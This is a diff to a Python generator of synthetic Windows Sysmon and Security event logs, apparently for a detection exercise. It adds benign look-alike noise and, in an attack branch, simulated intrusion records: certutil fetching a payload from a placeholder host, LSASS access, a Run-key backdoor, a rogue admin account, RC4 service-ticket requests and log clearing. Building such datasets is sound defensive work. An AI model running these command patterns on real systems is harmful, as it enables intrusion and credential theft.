@@ -23,11 +23,11 @@ def encoded(command):
 
 # -- the workstation
 
-def read_lsass(machine, image, access):
+def read_lsass(machine, image, access, target=LSASS):
     machine.sysmon_event(10, 3, [
         ("UtcTime", machine.utc()), ("SourceProcessGUID", machine.guid()), ("SourceProcessId", 4 * machine.dice.number(1000, 6000)),
         ("SourceThreadId", machine.dice.number(1000, 9000)), ("SourceImage", image), ("TargetProcessGUID", machine.guid()), ("TargetProcessId", 684),
-        ("TargetImage", LSASS), ("GrantedAccess", access), ("CallTrace", SYSTEM32 + "ntdll.dll+9d4c4|" + SYSTEM32 + "KERNELBASE.dll+2c13e"),
+        ("TargetImage", target), ("GrantedAccess", access), ("CallTrace", SYSTEM32 + "ntdll.dll+9d4c4|" + SYSTEM32 + "KERNELBASE.dll+2c13e"),
         ("SourceUser", machine.account("jdoe")), ("TargetUser", machine.account("SYSTEM"))])
 
 
@@ -37,6 +37,7 @@ def set_value(machine, image, target, details):
         ("Image", image), ("TargetObject", target), ("Details", details), ("User", machine.account("jdoe"))])
 
 
+CHAT = r"C:\Users\jdoe\AppData\Local\Chat\chat.exe"
 RUN = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
 
 
@@ -49,10 +50,19 @@ def office_work(machine):
              (SYSTEM32 + "vssadmin.exe", "vssadmin.exe list shadows"),
              (SYSTEM32 + "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"),
              (SYSTEM32 + "rundll32.exe", r'"C:\Windows\System32\rundll32.exe" printui.dll,PrintUIEntry /in /n \\print-01.corp.example\floor2'),
+             (SYSTEM32 + "certutil.exe", "certutil.exe -url http://pki.corp.example/ca.crl"),
+             (SYSTEM32 + "certutil.exe", "certutil.exe -urlcache * delete"),
+             (SYSTEM32 + "findstr.exe", r"findstr.exe urlcache C:\Scripts\http-proxy.txt"),
+             (SYSTEM32 + "findstr.exe", r'findstr.exe /i "delete shadows" C:\Scripts\runbook.txt'),
+             (SYSTEM32 + "findstr.exe", r'findstr.exe /i "shadowcopy delete" C:\Scripts\runbook.txt'),
+             (SYSTEM32 + "wbem\\WMIC.exe", "wmic.exe product where name='Planner' delete"),
+             (CMD, "cmd.exe /c where rundll32.exe"),
              (SYSTEM32 + "whoami.exe", "whoami.exe")]
     for image, line in lines:
         machine.ordinary(PROGRAMS)
-        machine.start(program(image), line=line)
+        process = machine.start(program(image), line=line)
+        if image.endswith("rundll32.exe"):
+            machine.end(process)
     host = machine.start(program(SYSTEM32 + "wbem\\WmiPrvSE.exe", "SYSTEM", SYSTEM32 + "svchost.exe"), line=SYSTEM32 + "wbem\\wmiprvse.exe -secured -Embedding")
     machine.wait(30)
     machine.start(program(SYSTEM32 + "msiexec.exe", "SYSTEM"), line=r"C:\Windows\System32\msiexec.exe /fa {7D1C0A55-6C6F-4E0B-9B37-2C44A7E0B1F3}", parent=host)
@@ -60,6 +70,17 @@ def office_work(machine):
     read_lsass(machine, SYSTEM32 + "svchost.exe", "0x1400")
     machine.wait(30)
     read_lsass(machine, r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24040.4-0\MsMpEng.exe", "0x1010")
+    machine.wait(30)
+    read_lsass(machine, CHAT, "0x1000")
+    machine.wait(30)
+    read_lsass(machine, CHAT, "0x1010", target=r"C:\Windows\explorer.exe")
+    machine.wait(30)
+    set_value(machine, CHAT, r"HKU\S-1-5-21-1085031214-1563985344-725345543-1117\SOFTWARE\Chat\InstallPath", CHAT)
+    machine.wait(30)
+    editor = machine.start(program(r"C:\Program Files\Editor\editor.exe", parent=r"C:\Windows\explorer.exe"), line="editor.exe")
+    for _ in range(4):
+        machine.wait(30)
+        machine.start(program(CMD, original="Cmd.Exe"), line="cmd.exe /d /c build.cmd", parent=editor)
     machine.wait(30)
     set_value(machine, SYSTEM32 + "svchost.exe", "HKLM\\" + RUN + "\\SecurityHealth", r"%windir%\system32\SecurityHealthSystray.exe")
     return host
@@ -74,7 +95,7 @@ def intrude(machine, host):
     machine.wait(20)
     machine.start(program(SYSTEM32 + "certutil.exe"), line=rf"certutil.exe -urlcache -split -f http://{STRANGERS[0]}/a.txt C:\Users\Public\upd.exe", parent=shell)
     machine.wait(20)
-    machine.start(program(SYSTEM32 + "certutil.exe", original="CertUtil.exe"), line=rf"C:\Users\Public\cu.exe /verifyctl /f http://{STRANGERS[0]}/b.txt", parent=shell)
+    machine.start(program(r"C:\Users\Public\cu.exe", original="CertUtil.exe"), line=rf"C:\Users\Public\cu.exe /verifyctl /f http://{STRANGERS[0]}/b.txt", parent=shell)
     machine.wait(20)
     set_value(machine, POWERSHELL, r"HKU\S-1-5-21-1085031214-1563985344-725345543-1117" + "\\" + RUN + "\\Updater", r"C:\Users\jdoe\AppData\Roaming\upd.exe /q")
     machine.wait(20)
@@ -133,10 +154,10 @@ def logon(log, time, user, source, success=True, host=SERVER):
         audit(log, time, 4625, 12544, target + [("Status", "0xc000006d"), ("FailureReason", "%%2313"), ("SubStatus", "0xc000006a")] + how, host, success=False)
 
 
-def ticket(log, time, user, service, cipher, source):
+def ticket(log, time, user, service, cipher, source, status="0x0"):
     audit(log, time, 4769, 14337, [
         ("TargetUserName", user + "@CORP.EXAMPLE"), ("TargetDomainName", "CORP.EXAMPLE"), ("ServiceName", service), ("ServiceSid", "S-1-5-21-1085031214-1563985344-725345543-1300"),
-        ("TicketOptions", "0x40810000"), ("TicketEncryptionType", cipher), ("IpAddress", "::ffff:" + source), ("IpPort", 50000 + len(log.items)), ("Status", "0x0"),
+        ("TicketOptions", "0x40810000"), ("TicketEncryptionType", cipher), ("IpAddress", "::ffff:" + source), ("IpPort", 50000 + len(log.items)), ("Status", status),
         ("LogonGuid", "{2B1C5A10-0001-4F00-9A00-0000000000%02X}" % (len(log.items) % 256)), ("TransmittedServices", "-")], CONTROLLER)
 
 
@@ -150,9 +171,9 @@ def into_group(log, time, group, sid, member_sid, by, host):
           subject(by) + [("PrivilegeList", "-")], host)
 
 
-def task(log, time, name, command, by, host):
+def task(log, time, name, command, by, host, event=4698):
     content = ("<Task version=\"1.2\"><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>" + command + "</Command></Exec></Actions></Task>")
-    audit(log, time, 4698, 12804, subject(by) + [("TaskName", name), ("TaskContent", content)], host)
+    audit(log, time, event, 12804, subject(by) + [("TaskName", name), ("TaskContent", content)], host)
 
 
 def security(log):
@@ -169,6 +190,12 @@ def security(log):
     new_account(log, log.at("10:15:00"), "intern07", "helpdesk", CONTROLLER)
     into_group(log, log.at("10:16:00"), "Remote Desktop Users", "S-1-5-32-555", "S-1-5-21-9-9-9-1008", "helpdesk", CONTROLLER)
     task(log, log.at("12:00:00"), r"\Backup\Nightly", r"C:\Program Files\Backup\agent.exe", "helpdesk", SERVER)
+    task(log, log.at("12:05:00"), r"\OldUpdater", r"C:\Users\Public\old.exe", "helpdesk", SERVER, event=4699)
+    services = ["svc-sql", "svc-web", "svc-backup", "svc-print", "svc-wiki", "svc-mail"]
+    for n, service in enumerate(services):
+        ticket(log, log.at("12:20:00", 5 * n), "akaya", service, "0x12", OFFICE["akaya"])
+        ticket(log, log.at("12:40:00", 5 * n), "bnowak", service, "0x17", OFFICE["bnowak"], status="0xe")
+    ticket(log, log.at("12:50:00"), "cmeier", "svc-scan", "0x17", OFFICE["cmeier"])
     if not log.attack:
         return log.lines()
     for n in range(14):
@@ -177,7 +204,7 @@ def security(log):
     new_account(log, log.at("13:10:00"), "support_388", "svc-backup", SERVER)
     into_group(log, log.at("13:10:04"), "Administrators", "S-1-5-32-544", "S-1-5-21-9-9-9-1008", "svc-backup", SERVER)
     task(log, log.at("13:15:00"), r"\Updater", r"C:\Users\Public\upd.exe", "support_388", SERVER)
-    for n, service in enumerate(["svc-sql", "svc-web", "svc-backup", "svc-print", "svc-wiki", "svc-mail"]):
+    for n, service in enumerate(services):
         ticket(log, log.at("13:30:00", 2 * n), "jdoe", service, "0x17", OFFICE["jdoe"])
     time = log.at("14:00:00")
     body = ("<UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'>" +
